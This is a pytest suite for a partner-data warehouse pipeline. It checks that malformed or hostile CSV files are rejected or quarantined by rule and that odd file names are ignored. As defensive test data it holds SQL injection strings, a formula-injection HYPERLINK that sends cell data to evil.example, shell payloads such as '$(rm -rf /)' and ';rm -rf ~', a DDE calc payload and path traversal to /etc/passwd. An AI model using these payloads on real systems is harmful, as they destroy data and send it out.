"""Broken and hostile partner files through land -> validate -> stage over a real warehouse (SQLite
and PostgreSQL): each has its documented outcome (rows quarantined with their rule, or the run fails
naming the file and the rule), the counts add up, nothing is dropped silently, and the only error a
broken file raises is tfp's own, naming file and rule. Unit-level cases (each rule on its own, BOM,
Latin-1, reordered columns) are in test_validate.py; these add what only the whole path shows."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from hardening_helpers import R, assert_counts_add_up, landings, process, quarantined, staged, staged_count
from test_validate import BROKEN, GOOD

from helpers import make_config
from tfp import feeds
from tfp.extract import land_source, select_files
from tfp.validate import FilesRejected
from tfp.warehouse import connect

FILE_DATE = date(2025, 1, 31)
# the optional support_services source, in a config's sources (contract section 10)
SUPPORT = {"support_services": {"transport": "directory", "path": "inbound/support_services"}}
NEEDS = feeds.DATASETS["needs"].columns
NEEDS_FILE = "needs_20250131.csv"


def csv_bytes(rows: list[dict[str, str]], columns=NEEDS, terminator: str = "\r\n") -> bytes:
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(columns), lineterminator=terminator, extrasaction="ignore")
    writer.writeheader()
    writer.writerows(rows)
    return out.getvalue().encode("utf-8")


def needs_rows(n: int, prefix: str = "n") -> list[dict[str, str]]:
    return [{"record_id": f"{prefix}{i}", **GOOD["needs"], "person_ref": f"P{i}"} for i in range(n)]


GOOD_40 = csv_bytes(needs_rows(40))
HEADER = ",".join(NEEDS).encode()


def _drop(tmp_path, name: str, body: bytes, source: str = "children_services") -> None:
    (tmp_path / "inbound" / source / name).write_bytes(body)


# -- file-level: the file is rejected, the run fails naming file and rule, nothing is staged ---------

REJECTED = {
    "truncated mid-row": (GOOD_40[:-12], "not readable as CSV (a row has the wrong number of fields)"),
    "truncated mid-quote": (GOOD_40 + b'n99,"P99,early_help', "not readable as CSV (a quoted field is not closed)"),
    "semicolon delimiter": (GOOD_40.replace(b",", b";"), "required column missing: record_id"),
    "tab delimiter": (GOOD_40.replace(b",", b"\t"), "required column missing: record_id"),
    "UTF-16": (GOOD_40.decode().encode("utf-16"), "not readable as UTF-8"),
    "UTF-16 without BOM": (GOOD_40.decode().encode("utf-16-le"), "not readable as CSV (it contains NUL bytes)"),
    "NUL bytes in a value": (GOOD_40.replace(b"n7,", b"n7\x00\x00,"), "not readable as CSV (it contains NUL bytes)"),
    "duplicated header column": (b"".join(line + b",x\r\n" for line in GOOD_40.splitlines()).replace(
        b"end_date,x", b"end_date,end_date", 1), "not readable as CSV (column repeated: end_date)"),
    "header only with a column missing": (b"record_id,person_ref,need,start_date\r\n",
                                          "required column missing: end_date"),
    "binary garbage": (bytes(range(256)) * 4, "not readable as UTF-8"),
}


@pytest.mark.parametrize("case", sorted(REJECTED))
def test_a_broken_file_fails_the_run_naming_file_and_rule(tmp_path, warehouse_url, case):
    body, rule = REJECTED[case]
    config = make_config(tmp_path, warehouse_url)
    engine = connect(warehouse_url)
    _drop(tmp_path, NEEDS_FILE, body)
    with pytest.raises(FilesRejected) as info:
        process(engine, config, sources=["children_services"])
    assert str(info.value) == f"file {NEEDS_FILE} rejected: {rule}"
    assert "P1" not in str(info.value) and "early_help" not in str(info.value)
    assert [(ld["status"], ld["rejection"]) for ld in landings(engine)] == [("rejected", rule)]
    assert staged_count(engine, "needs") == 0 and quarantined(engine) == {}


# -- row-level or harmless: every row ends up staged or quarantined with its rule --------------------

def _long_field() -> bytes:
    rows = needs_rows(40)
    rows[5]["person_ref"] = "x" * 10_000_000  # 10 MB in one field, longer than Arrow's 1 MiB block
    return csv_bytes(rows)


ROW_LEVEL = {
    # case: (body, rows staged, {record_id: rule quarantined with})
    "empty file": (b"", 0, {}),
    "whitespace only": (b" \r\n\r\n", 0, {}),
    "header only": (HEADER + b"\r\n", 0, {}),
    "header only, no newline": (HEADER, 0, {}),
    "BOM": (b"\xef\xbb\xbf" + GOOD_40, 40, {}),
    "CRLF": (GOOD_40, 40, {}),
    "LF": (GOOD_40.replace(b"\r\n", b"\n"), 40, {}),
    "CR only": (GOOD_40.replace(b"\r\n", b"\r"), 40, {}),
    "trailing blank lines": (GOOD_40 + b"\r\n\r\n", 40, {}),
    "header repeated as a row": (HEADER + b"\r\n" + GOOD_40, 40, {"record_id": "code:need"}),
    "a 10 MB field": (_long_field(), 39, {"n5": "value_too_long"}),
    "a record id longer than its column": (
        csv_bytes([*needs_rows(40), {**needs_rows(1)[0], "record_id": "r" * 101}]), 40, {"r" * 101: "value_too_long"}),
    "columns reordered, extra columns": (
        csv_bytes([{**r, "comment": "x", "extra": "=1+1"} for r in needs_rows(40)],
                  columns=["extra", "end_date", "need", "comment", "person_ref", "start_date", "record_id"]), 40, {}),
}


@pytest.mark.parametrize("case", sorted(ROW_LEVEL))
def test_rows_are_staged_or_quarantined_with_their_rule(tmp_path, warehouse_url, case):
    body, n_staged, expected_quarantine = ROW_LEVEL[case]
    config = make_config(tmp_path, warehouse_url)
    engine = connect(warehouse_url)
    _drop(tmp_path, NEEDS_FILE, body)
    process(engine, config, sources=["children_services"])
    (landing,) = landings(engine)
    assert landing["status"] == "staged"
    got = quarantined(engine)
    assert set(got) == set(expected_quarantine)
    for record_id, rule in expected_quarantine.items():
        assert rule in got[record_id].split("; ")
    assert staged_count(engine, "needs") == n_staged
    assert landing["rows_read"] == n_staged + len(expected_quarantine)
    assert_counts_add_up(engine)
    if n_staged:
        rows = {r["record_id"]: r for r in staged(engine, "needs")}
        assert rows["n3"]["person_ref"] == "P3" and rows["n3"]["need"] == "early_help"


def test_every_rule_broken_one_at_a_time_in_every_dataset(tmp_path, warehouse_url):
    """Each rule of test_validate.BROKEN, one row each, in one file per dataset, through the warehouse."""
    config = make_config(tmp_path, warehouse_url, quality={"max_bad_row_fraction": 1.0},
                         sources={**HEALTH, **SUPPORT})
    engine = connect(warehouse_url)
    expected: dict[str, str] = {}
    for dataset, d in feeds.DATASETS.items():
        rows = [{"record_id": f"{dataset}-good-{i}", **GOOD[dataset]} for i in range(3)]
        for i, (ds, column, value, rule) in enumerate(BROKEN):
            if ds == dataset:
                rid = f"{dataset}-bad-{i}" if column != "record_id" else ""
                rows.append({**GOOD[dataset], "record_id": rid, column: value})
                expected[rid] = rule
        # hostile-looking values that break no rule are staged as they are
        rows.append({**GOOD[dataset], "record_id": f"{dataset}-odd-'; DROP TABLE quarantine;--",
                     **{c: v for c, v in ODD_TEXT.items() if c in d.columns and c not in d.codes}})
        # an integer too large for the warehouse column
        if d.integers:
            rows.append({**GOOD[dataset], "record_id": f"{dataset}-huge", d.integers[0]: "99999999999"})
            expected[f"{dataset}-huge"] = f"integer:{d.integers[0]}"
        (tmp_path / "inbound" / d.source / feeds.file_name(dataset, FILE_DATE)).write_bytes(
            csv_bytes(rows, d.columns))
    process(engine, config, sources=feeds.ALL_SOURCES)
    got = quarantined(engine)
    assert set(got) == set(expected)
    for record_id, rule in expected.items():
        assert rule in got[record_id].split("; "), (record_id, got[record_id])
    for dataset, d in feeds.DATASETS.items():
        rows = {r["record_id"]: r for r in staged(engine, dataset)}
        assert {k for k in rows if "-good-" in k} == {f"{dataset}-good-{i}" for i in range(3)}
        odd = rows[f"{dataset}-odd-'; DROP TABLE quarantine;--"]
        for column, value in ODD_TEXT.items():
            if column in d.columns and column not in d.codes:
                assert odd[column] == value.strip(), (dataset, column)
    assert_counts_add_up(engine)


def test_a_schools_attendance_file_in_the_support_services_folder_fails_naming_file_and_rule(tmp_path,
                                                                                           warehouse_url):
    """Both sources send ``attendance_<date>.csv`` (contract sections 3 and 10): a file is read as the dataset of
    the folder it arrived in, so a schools file sent to the support_services drop is refused for the columns it
    lacks, naming the file and the rule, and nothing of it is staged in either dataset."""
    config = make_config(tmp_path, warehouse_url, sources=SUPPORT)
    engine = connect(warehouse_url)
    name = feeds.file_name("attendance", FILE_DATE)
    rows = [{"record_id": f"a{i}", **GOOD["attendance"]} for i in range(5)]
    _drop(tmp_path, name, csv_bytes(rows, feeds.DATASETS["attendance"].columns), source="support_services")
    assert [f.dataset for f in select_files("support_services", [name], R)] == ["support_attendance"]
    assert [f.dataset for f in select_files("schools", [name], R)] == ["attendance"]
    land_source(engine, config, "support_services", R)
    from tfp.validate import validate_source

    with pytest.raises(FilesRejected) as failed:
        validate_source(engine, config, "support_services", R)
    message = str(failed.value)
    assert name in message and "required column missing: provider" in message
    assert "Smith" not in message  # the file's values never reach the message
    assert staged_count(engine, "support_attendance") == 0 and staged_count(engine, "attendance") == 0
    assert [(x["source"], x["status"]) for x in landings(engine)] == [("support_services", "rejected")]


ODD_TEXT = {
    "forename": "Robert'); DROP TABLE stg_families;--",
    "surname": "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "person_ref": "$(rm -rf /); `id`",
    "family_ref": "../../../etc/passwd",
    "tenancy_ref": "\"; DELETE FROM landing_log; --",
    "pnc_id": "@SUM(1+1)*cmd|' /C calc'!A0",
    "school_urn": "'||(SELECT pg_sleep(5))||'",
}


# -- the health source (contract section 10) ------------------------------------------------------

HEALTH = {"health": {"transport": "directory", "path": "inbound/health"}}


def _health_rows(n: int, dataset: str = "treatment_episodes") -> list[dict[str, str]]:
    return [{"record_id": f"h{i}", **GOOD[dataset]} for i in range(n)]


def test_health_rows_with_a_bad_nhs_number_are_quarantined_and_the_rest_staged(tmp_path, warehouse_url):
    """Wrong check digits, a check digit of 10, letters, too few digits, spacing: each bad row is quarantined
    with nhs_number_check_digit, a spaced valid number is staged as its ten digits, an empty one as unknown,
    and no number appears in the error-free counts or the file's landing record."""
    config = make_config(tmp_path, warehouse_url, sources=HEALTH)
    engine = connect(warehouse_url)
    rows = _health_rows(120)  # five bad rows stay under max_bad_row_fraction (5 %)
    bad = {"h1": "9434765918", "h2": "1000000010", "h3": "94347659l9", "h4": "943476591", "h5": "09434765919"}
    for record_id, value in bad.items():
        rows[int(record_id[1:])]["nhs_number"] = value
    rows[10]["nhs_number"] = "943-476-5919"
    rows[11]["nhs_number"] = ""
    _drop(tmp_path, "treatment_episodes_20250131.csv", csv_bytes(rows, feeds.DATASETS["treatment_episodes"].columns),
          source="health")
    out = process(engine, config, sources=["health"])
    assert quarantined(engine) == {r: "nhs_number_check_digit" for r in bad}
    staged_rows = {r["record_id"]: r for r in staged(engine, "treatment_episodes")}
    assert len(staged_rows) == 115 and staged_rows["h10"]["nhs_number"] == "9434765919"
    assert staged_rows["h11"]["nhs_number"] is None
    assert "9434765918" not in repr(out) and "94347659" not in repr(landings(engine))
    assert_counts_add_up(engine)


def test_a_health_file_without_its_nhs_number_column_fails_naming_file_and_rule(tmp_path, warehouse_url):
    """The roster may leave nhs_number out (it was added later); a health feed may not."""
    config = make_config(tmp_path, warehouse_url, sources=HEALTH)
    engine = connect(warehouse_url)
    columns = [c for c in feeds.DATASETS["mental_health_contacts"].columns if c != "nhs_number"]
    name = "mental_health_contacts_20250131.csv"
    _drop(tmp_path, name, csv_bytes(_health_rows(5, "mental_health_contacts"), columns), source="health")
    with pytest.raises(FilesRejected) as info:
        process(engine, config, sources=["health"])
    assert str(info.value) == f"file {name} rejected: required column missing: nhs_number"
    assert staged_count(engine, "mental_health_contacts") == 0


def test_a_roster_with_or_without_nhs_number_is_staged_and_a_bad_one_quarantined(tmp_path, warehouse_url):
    config = make_config(tmp_path, warehouse_url)
    engine = connect(warehouse_url)
    without = [c for c in feeds.DATASETS["families"].columns if c != "nhs_number"]
    rows = [{**GOOD["families"], "record_id": f"P{i}", "person_ref": f"P{i}"} for i in range(40)]
    _drop(tmp_path, "families_20250130.csv", csv_bytes(rows, without))
    process(engine, config, reference_date=FILE_DATE, sources=["children_services"])
    assert staged_count(engine, "families") == 40 and quarantined(engine) == {}
    rows[3]["nhs_number"] = "9434765918"
    rows[4]["nhs_number"] = "4010232137"
    _drop(tmp_path, "families_20250131.csv", csv_bytes(rows, feeds.DATASETS["families"].columns))
    process(engine, config, reference_date=FILE_DATE, sources=["children_services"])
    assert quarantined(engine) == {"P3": "nhs_number_check_digit"}
    newest = {r["record_id"]: r for r in staged(engine, "families") if r["file_date"] == FILE_DATE}
    assert newest["P4"]["nhs_number"] == "4010232137" and len(newest) == 39
    assert_counts_add_up(engine)


# -- files re-sent, records re-sent ---------------------------------------------------------------

def test_the_same_file_resent_under_another_name_counts_once(tmp_path, warehouse_url):
    config = make_config(tmp_path, warehouse_url)
    engine = connect(warehouse_url)
    _drop(tmp_path, NEEDS_FILE, GOOD_40)
    _drop(tmp_path, "needs_20250201.csv", GOOD_40)
    counts = process(engine, config, sources=["children_services"])["children_services"]
    assert counts["extract"]["landed"] == 1 and counts["extract"]["duplicates"] == 1
    assert staged_count(engine, "needs") == 40
    first, second = landings(engine)
    assert second["status"] == "duplicate" and second["duplicate_of"] == first["id"]
    process(engine, config, sources=["children_services"])  # and a re-run changes nothing
    assert staged_count(engine, "needs") == 40 and len(landings(engine)) == 2


def test_a_record_id_resent_with_changed_content_takes_the_newest(tmp_path, warehouse_url):
    from tfp.current import current_rows

    config = make_config(tmp_path, warehouse_url)
    engine = connect(warehouse_url)
    _drop(tmp_path, NEEDS_FILE, GOOD_40)
    changed = needs_rows(40)
    changed[3]["need"] = "neet"
    _drop(tmp_path, "needs_20250228.csv", csv_bytes(changed))
    process(engine, config, sources=["children_services"])
    with engine.connect() as conn:
        current = current_rows(conn, "needs", R)
    assert len(current) == 40
    assert current.set_index("record_id").loc["n3", "need"] == "neet"
    with engine.connect() as conn:  # as of a date before the correction, the old row counts
        before = current_rows(conn, "needs", date(2025, 2, 1))
    assert before.set_index("record_id").loc["n3", "need"] == "early_help"


@pytest.mark.parametrize("name", [
    "../needs_20250131.csv", "needs_20250131.csv/../../x", "needs_20250131.csv;rm -rf ~", "needs_20250131.csv\n",
    "NEEDS_20250131.csv", "needs_20250131 (1).csv", "needs_2025013.csv", "needs_20250231.csv", ".needs_20250131.csv",
    "needs_20250131.csv.part-1a2b", "néeds_20250131.csv", "needs_20250131.CSV", "needs_20250131.csv.gpg",
])
def test_odd_file_names_are_ignored(name):
    assert select_files("children_services", [name], R) == []


def test_odd_file_names_over_sftp_are_counted_as_ignored_and_not_landed(tmp_path, warehouse_url, monkeypatch):
    import json

    from tfp_dev.sftpserver import SftpServer

    drop = tmp_path / "partner"
    (drop / "children_services").mkdir(parents=True)
    for name in ("needs_20250131 (copy).csv", "..needs_20250131.csv", "needs_20250131.csv;id", "x\u202enls.csv",
                 "needs_20250131.csv\r"):
        (drop / "children_services" / name).write_bytes(GOOD_40)
    (drop / "children_services" / NEEDS_FILE).write_bytes(GOOD_40)
    with SftpServer(drop) as server:
        monkeypatch.setenv("AIRFLOW_CONN_SFTP_PARTNER", json.dumps({
            "conn_type": "sftp", "host": server.host, "port": server.port, "login": server.username,
            "password": server.password, "extra": {"host_key": server.host_key, "no_host_key_check": False}}))
        config = make_config(tmp_path, warehouse_url, sources={"children_services": {
            "transport": "sftp", "conn_id": "sftp_partner", "path": "/children_services"}})
        engine = connect(warehouse_url)
        counts = land_source(engine, config, "children_services", R)
    assert counts["landed"] == 1 and counts["ignored"] == 5
    assert [ld["file_name"] for ld in landings(engine)] == [NEEDS_FILE]
    landed = sorted(p.relative_to(tmp_path / "work") for p in (tmp_path / "work").rglob("*") if p.is_file())
    assert all(str(p).startswith("landing/children_services/") for p in landed if "warehouse" not in str(p))


@pytest.mark.slow
def test_a_million_row_file_with_one_bad_row(tmp_path, sqlite_url):
    config = make_config(tmp_path, sqlite_url)
    engine = connect(sqlite_url)
    n = 1_000_000
    lines = [HEADER] + [b"n%d,P%d,early_help,2024-01-01," % (i, i) for i in range(n)]
    lines[500_001] = b"n500000,P500000,early_help,2024-02-30,"
    _drop(tmp_path, NEEDS_FILE, b"\r\n".join(lines) + b"\r\n")
    process(engine, config, sources=["children_services"])
    (landing,) = landings(engine)
    assert (landing["rows_read"], landing["rows_staged"], landing["rows_quarantined"]) == (n, n - 1, 1)
    assert quarantined(engine) == {"n500000": "date:start_date"}
    assert staged_count(engine, "needs") == n - 1
